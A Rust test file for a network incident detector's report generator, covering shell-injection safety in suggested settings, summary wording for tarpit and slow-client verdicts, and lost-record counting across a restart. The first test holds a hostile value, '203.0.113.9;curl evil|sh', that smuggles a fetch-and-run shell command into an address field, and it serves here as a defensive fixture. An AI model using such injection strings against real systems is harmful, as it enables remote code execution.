//! What is said of others, and what a recorder of theirs may bring about.

use super::{flag, night, told, with_incident};
use crate::report::tests::story::{Host, at, incident};
use detector_api::snapshot::{IncidentKind, Verdict};
use detector_recorder::{Batch, HostSecond};

/// A recorder may be of another party, and what to do is copied into a shell.
#[test]
fn no_command_is_made_of_what_is_no_address() {
    let evil = "203.0.113.9;curl evil|sh";
    for (name, is_named) in [(evil, false), ("203.0.113.9", true)] {
        let mut incident = incident(at("21:10:00"), &[(name, 30)]);
        incident.peers[0].verdict = Some(Verdict::ZeroWindowAttack);
        let report = told(night("web1", |host| {
            let event = flag(host, "21:10:00", name, Verdict::ZeroWindowAttack);
            let batch = Batch {
                events: vec![event],
                incidents: vec![incident],
                ..Batch::default()
            };
            host.record(at("21:10:01"), &[(name, 30)], batch);
        }));
        let settings = report.steps.iter().flat_map(|step| &step.settings);
        let lines: Vec<_> = settings.flat_map(|setting| &setting.lines).collect();
        let names = lines.iter().filter(|line| line.contains("203.0.113.9"));
        assert_eq!(names.count() > 0, is_named, "{lines:?}");
    }
}

#[test]
fn who_holds_our_own_requests_is_not_said_to_have_asked_for_data() {
    for (verdict, asked) in [(Verdict::Tarpit, false), (Verdict::SlowClient, true)] {
        let mut incident = incident(at("21:10:00"), &[("203.0.113.9", 3)]);
        incident.kinds = vec![IncidentKind::StalledPeers];
        incident.peers[0].verdict = Some(verdict);
        let report = told(night("web1", |host| {
            host.record(
                at("21:10:01"),
                &[("203.0.113.9", 3)],
                with_incident(incident),
            );
        }));
        let summary = report.summary.join(" ");
        assert_eq!(summary.contains("asked for data"), asked, "{summary}");
    }
}

#[test]
fn what_was_lost_is_counted_over_a_restart() {
    let folder = tempfile::tempdir().unwrap();
    let lost = |host: &mut Host<'_>, clock: &str, records_lost: i64| {
        let second = HostSecond {
            records_lost: Some(records_lost),
            ..HostSecond::default()
        };
        let batch = Batch {
            at: host.moment(at(clock)),
            host: Some(second),
            ..Batch::default()
        };
        host.recorder.record(&batch).unwrap();
    };
    let (booted, began) = (at("00:00:00"), at("21:00:00"));
    let mut host = Host::start(folder.path(), "web1", "boot", booted, began);
    for (clock, count) in [("21:00:01", 0), ("21:10:00", 200), ("21:11:00", 230)] {
        lost(&mut host, clock, count);
    }
    let mut host = host.again("boot", booted, at("21:12:00"));
    lost(&mut host, "21:12:01", 100);
    drop(host);
    let told = told(folder);
    let unseen = told.unseen.join(" ");
    assert!(unseen.contains("lost 330 records"), "{unseen}");
}
